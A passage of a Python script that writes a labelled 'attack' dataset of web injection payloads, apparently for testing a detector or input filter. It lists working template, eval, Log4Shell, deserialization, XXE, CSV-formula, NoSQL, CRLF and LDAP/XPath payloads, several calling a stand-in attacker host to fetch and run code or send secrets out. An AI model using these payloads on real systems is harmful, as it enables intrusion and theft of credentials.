    ("handlebars-ssti", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("pug-ssti", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ejs-ssti", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("nunjucks-ssti", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("go-template-ssti", "{{ .Env }}{{ printf \"%s\" .Secret }}"),
    ("razor-ssti", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("spel-injection", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("spel-injection", "${T(java.lang.System).getenv()}"),
    ("el-injection", "${pageContext.request.getSession().setAttribute(\"role\",\"admin\")}"),
    ("el-injection-jsp", "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")}"),
    ("ognl-injection", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("ognl-struts", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("mvel-injection", "Runtime.getRuntime().exec(\"id\");"),
    ("log4shell-jndi", "${jndi:ldap://attacker.example:1389/a}"),
    ("log4shell-jndi", "Chair 4 hold ${jndi:rmi://203.0.113.90:1099/Lift}"),
    ("log4shell-nested", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
    ("log4shell-env-default", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://attacker.example/y}"),
    ("log4shell-dns-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/z}"),
    ("log4shell-upper", "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://198.51.100.3/q}"),
    ("js-eval-injection", "'); require('child_process').exec('curl attacker.example|sh'); //"),
    ("js-eval-injection", "1;process.mainModule.require('child_process').execSync('id')"),
    ("python-eval-injection", "__import__('os').system('id')"),
    ("python-eval-injection", "DIN 6.5 + __import__('subprocess').check_output(['cat','/etc/passwd'])"),
    ("php-eval-injection", "'; system('id'); //"),
    ("php-eval-injection", "${@system($_GET['c'])}"),
    ("ruby-eval-injection", "#{system('id')}"),
    ("prototype-pollution-json", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("prototype-pollution-json", "{\"constructor\": {\"prototype\": {\"role\": \"patrol_admin\"}}}"),
    ("prototype-pollution-query", "__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("prototype-pollution-path", "settings.__proto__.shell=/proc/self/exe"),
    ("csv-formula-dde", "=cmd|' /C calc'!A0"),
    ("csv-formula-hyperlink", "=HYPERLINK(\"http://attacker.example/?d=\"&A1&B1,\"Lift counts\")"),
    ("csv-formula-plus", "+cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-formula-at", "@SUM(1+9)*cmd|' /C notepad'!A0"),
    ("csv-formula-webservice", "=WEBSERVICE(\"http://attacker.example/x?\"&A2)"),
    ("xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><bulletin>&x;</bulletin>"),
    ("xxe-oob", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/e.dtd\"> %p;]><r/>"),
    ("xxe-ssrf", "<!DOCTYPE snow [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><snow><new>&m;</new></snow>"),
    ("xinclude", "<lift xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></lift>"),
    ("xxe-billion-laughs", "<!DOCTYPE l [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><l>&c;</l>"),
    ("yaml-python-deser", "!!python/object/apply:os.system ['id']"),
    ("yaml-python-deser", "grooming: !!python/object/new:subprocess.check_output [['cat','/etc/passwd']]"),
    ("yaml-snakeyaml-deser", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("yaml-python-popen", "!!python/object/apply:subprocess.Popen [['sh', '-c', 'curl attacker.example|sh']]"),
    ("pickle-deser", "cos\nsystem\n(S'id'\ntR."),
    ("java-xmldecoder-deser", "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>"),
    ("dotnet-typenamehandling", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("php-unserialize", "O:8:\"LiftPass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("php-unserialize-phar", "phar:///var/www/uploads/avatar.jpg/x"),
    ("node-serialize", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/o\",\"autoCommit\":true}]"),
]
CODE_PREFIX = ["Welcome back, ", "Lesson note: ", "Board message: ", "Snow report intro: ", "Review title: "]
CODE_TAIL = [
    ('jinja2-ssti', "{{ lipsum.__globals__.os.popen('id').read() }}"),
    ('log4shell-jndi', '${jndi:ldap://attacker.example/p}'),
    ('spel-injection', "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ('erb-ssti', '<%= `whoami` %>'),
    ('freemarker-ssti', '${"freemarker.template.utility.Execute"?new()("id")}'),
]
CODE_ENC = [
    ('log4shell-jndi', '${jndi:ldap://203.0.113.66:1389/x}'),
    ('jinja2-ssti', "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}"),
]

# ------------------------------------------------------------------ nosqli (24 literals)
NOSQL = [
    ("login-ne-operator", "{\"username\": \"admin\", \"password\": {\"$ne\": null}}"),
    ("login-gt-operator", "{\"login\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("query-bracket-ne", "password[$ne]=x"),
    ("query-bracket-regex", "username[$regex]=^adm&password[$ne]=1"),
    ("pass-lookup-regex", "{\"pass_no\": {\"$regex\": \".*\"}}"),
    ("regex-char-probe", "{\"email\": \"patrol.lead@resort.example\", \"reset_token\": {\"$regex\": \"^a\"}}"),
    ("where-js", "{\"$where\": \"this.role == 'admin' || sleep(5000)\"}"),
    ("where-js-string", "'; return true; var x='"),
    ("where-sleep", "1'; sleep(5000); var y='"),
    ("in-operator", "{\"pass_type\": {\"$in\": [\"Unlimited\", \"Staff\", \"Admin\"]}}"),
    ("exists-operator", "{\"api_key\": {\"$exists\": true}}"),
    ("nin-operator", "{\"lift_id\": {\"$nin\": []}}"),
    ("or-operator", "{\"$or\": [{\"role\": \"admin\"}, {\"1\": \"1\"}]}"),
    ("expr-operator", "{\"$expr\": {\"$gt\": [\"$balance\", 0]}}"),
    ("function-where", "{\"$where\": \"function(){ return obj.password.match(/^p/) }\"}"),
    ("aggregate-lookup", "[{\"$lookup\": {\"from\": \"staff_users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"u\"}}]"),
    ("mapreduce-js", "{\"mapReduce\": \"passes\", \"map\": \"function(){ emit(1, db.staff.find().toArray()) }\", \"reduce\": \"function(k,v){return 1}\"}"),
    ("couchdb-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}}"),
    ("redis-eval-lua", "EVAL \"return redis.call('CONFIG','GET','*')\" 0"),
    ("query-bracket-gt", "pass_no[$gt]=&holder[$gt]="),
    ("elasticsearch-script", "{\"script\": {\"source\": \"java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')\"}}"),
    ("booking-ref-ne", "{\"booking_ref\": \"SS-2024-0193\", \"owner\": {\"$ne\": \"me\"}}"),
    ("regex-dos-auth", "{\"password\": {\"$regex\": \"^(a+)+$\"}, \"username\": \"admin\"}"),
    ("where-tojson-exfil", "{\"$where\": \"tojson(db.getCollectionNames()).length > 0\"}"),
]
NOSQL_PREFIX = ["username=admin&", "pass_no=A-55012&", "booking_ref=SS-2024-0193&"]
NOSQL_TAIL = [
    ('query-bracket-ne', 'password[$ne]=guess'),
    ('query-bracket-regex', 'pass_no[$regex]=.*'),
    ('query-bracket-gt', 'owner[$gt]='),
]
NOSQL_ENC = [
    ('login-ne-operator', '{"password": {"$ne": null}}'),
]

# ------------------------------------------------------------------ crlf (27 literals)
CRLF = [
    ("log-forging", "Chair 4 hold\n2024-02-10 09:12:01 INFO patrol.lead login success from 10.0.0.5"),
    ("log-forging", "Run 14 groomed\r\n[AUDIT] season pass A-55012 refund approved by admin"),
    ("log-forging-encoded", "Gondola B delayed%0a2024-02-10T09:00:00Z level=info user=admin action=grant_role role=superuser"),
    ("log-forging-double-encoded", "lift7%250d%250a[INFO] user ski_admin authenticated"),
    ("header-injection-setcookie", "en\r\nSet-Cookie: session=attacker_fixed; Path=/"),
    ("header-injection-encoded", "de%0d%0aSet-Cookie:%20role=admin"),
    ("response-splitting", "/lifts%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("redirect-location", "/snow-report\r\nLocation: https://attacker.example/login"),
    ("redirect-header-inject", "https://skiresort.example/pass%0d%0aX-Forwarded-Host:%20attacker.example"),
    ("unicode-crlf", "fr%E5%98%8A%E5%98%8DSet-Cookie:%20x=evil"),
    ("lf-only", "it\nX-Accel-Redirect: /internal/admin/"),
    ("percent-u-crlf", "pl%u000d%u000aSet-Cookie: a=b"),
    ("cache-poison", "webcam.jpg\r\nCache-Control: public, max-age=31536000\r\n\r\n<html>pwned</html>"),
    ("cors-inject", "x\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("mail-header-bcc", "Ana-Lena Weber\r\nBcc: list@attacker.example"),
    ("mail-header-cc", "guest@example.com\nCc: victim1@example.org, victim2@example.org"),
    ("mail-subject-inject", "Lesson booking SS-2024-0193\r\nBcc: spam@attacker.example\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example>Claim free pass</a>"),
    ("mail-encoded-bcc", "Booking question%0ABcc:%20all@attacker.example"),
    ("mail-from-spoof", "Zoë%0d%0aFrom:%20ski-school@skiresort.example%0d%0aReply-To:%20refunds@attacker.example"),
    ("smtp-smuggle-data", "note\r\n.\r\nMAIL FROM:<ceo@skiresort.example>\r\nRCPT TO:<all-staff@skiresort.example>\r\nDATA\r\nSubject: urgent"),
    ("csv-log-newline", "Great day\n=cmd|' /C calc'!A0"),
    ("syslog-inject", "Chair 9 stop\n<13>Feb 10 09:15:00 liftctl sshd[311]: Accepted password for root from 203.0.113.4"),
    ("json-log-forging", "hold\",\"level\":\"info\",\"msg\":\"admin password reset OK\",\"user\":\"root"),
    ("http-request-smuggle", "x\r\nContent-Length: 0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost"),
    ("header-host-inject", "ja\r\nHost: attacker.example"),
    ("crlf-encoded+header-folding", "ru%0d%0a%09Set-Cookie: lang=x; Domain=.skiresort.example"),
    ("cr-only", "es\rSet-Cookie: pass=stolen"),
]
CRLF_PREFIX = ["Chair 4 on wind hold", "lang=de", "Run 14 groomed", "Pass A-55012 note"]
CRLF_TAIL = [
    ('header-injection-encoded', '%0d%0aSet-Cookie:%20sid=fixed'),
    ('redirect-location', '\r\nLocation: https://attacker.example/'),
    ('log-forging', '\n[INFO] admin login OK from 10.0.0.2'),
]
CRLF_ENC = [
    ('header-injection-setcookie', 'x\r\nSet-Cookie: role=admin'),
]

# ------------------------------------------------------------------ ldap-xpath (18 literals)
LDAP = [
    ("ldap-wildcard-login", "*)(uid=*))(|(uid=*"),
    ("ldap-or-bypass", "admin)(|(password=*)"),
    ("ldap-and-bypass", "patrol.lead)(&)"),
    ("ldap-attr-probe", "*)(objectClass=*"),
    ("ldap-blind-char", "ski_admin)(userPassword=a*"),
    ("ldap-group-inject", "lifties)(memberOf=cn=Domain Admins,cn=Users,dc=resort,dc=local"),
    ("ldap-null-trunc", "admin)%00"),
    ("ldap-attr-inject-mail", "x*)(mail=*@resort.example"),
    ("ldap-staff-search", "Mia*)(|(mail=*)(telephoneNumber=*)"),
    ("xpath-or-bypass", "' or '1'='1"),
    ("xpath-or-bypass-name", "Ana-Lena' or 1=1 or 'a'='a"),
    ("xpath-union-nodes", "x'] | //user/password | //*[x='"),
    ("xpath-blind-substring", "' or substring(//staff[1]/password,1,1)='s' or 'a'='b"),
    ("xpath-count-probe", "' or count(/*)=1 or '"),
    ("xpath-name-probe", "lift7' and string-length(name(/*[1]))>0 and '1'='1"),
    ("xpath-doc-exfil", "' or doc('http://attacker.example/?'||/config/db/password) or '"),
    ("xpath-comment-null", "Run 14'] | /* | //x[y='"),
    ("xquery-inject", "\" or 1=1 or \"\"=\""),
]
LDAP_PREFIX = ["uid=", "lift_ops_search: ", "staff lookup "]
LDAP_TAIL = [
    ('ldap-or-bypass', '*)(|(objectClass=*)'),
    ('xpath-or-bypass', "' or '1'='1' or 'x'='x"),
]
LDAP_ENC = [
    ('ldap-wildcard-login', '*)(uid=*))(|(uid=*'),
]

SPEC = [
    # category, literals, prefixes, tails, encodables, n_prefix_joins, n_encoded
    ("sqli", SQLI, SQLI_PREFIX, SQLI_TAIL, SQLI_ENC, 5, 4),
    ("xss", XSS, XSS_PREFIX, XSS_TAIL, XSS_ENC, 5, 4),
    ("cmdi", CMDI, CMDI_PREFIX, CMDI_TAIL, CMDI_ENC, 4, 4),
    ("traversal", TRAV, TRAV_PREFIX, TRAV_TAIL, TRAV_ENC, 4, 2),
    ("ssrf", SSRF, SSRF_PREFIX, SSRF_TAIL, SSRF_ENC, 4, 2),
    ("code", CODE, CODE_PREFIX, CODE_TAIL, CODE_ENC, 7, 2),
    ("nosqli", NOSQL, NOSQL_PREFIX, NOSQL_TAIL, NOSQL_ENC, 2, 1),
    ("crlf", CRLF, CRLF_PREFIX, CRLF_TAIL, CRLF_ENC, 2, 1),
    ("ldap-xpath", LDAP, LDAP_PREFIX, LDAP_TAIL, LDAP_ENC, 1, 1),
]


def main():
    rows = []
    n = 0
    for cat, lits, prefixes, tails, encs, n_join, n_enc in SPEC:
        vals = list(lits)
        seen = set(v for _, v in vals)
        assert len(seen) == len(vals), cat
        joined = 0
        while joined < n_join:
            pre = rng.choice(prefixes)
            cls, tail = rng.choice(tails)
            v = pre + tail
            if v not in seen:
                seen.add(v)
                vals.append(("tpl-prefixed-" + cls, v))
                joined += 1
        for cls, p in encs[:n_enc]:
            v = urllib.parse.quote(p, safe="")
            assert v not in seen
            seen.add(v)
            vals.append(("tpl-" + cls + "+urlencode", v))
        for cls, v in vals:
            n += 1
            rows.append({"id": "%s-%05d" % (PREFIX, n), "category": cat, "class": cls,
                         "label": "attack", "value": v})
    path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for row in rows:
            f.write(json.dumps(row, ensure_ascii=False) + "\n")
    print("wrote %d rows to %s" % (len(rows), path))


if __name__ == "__main__":
    main()
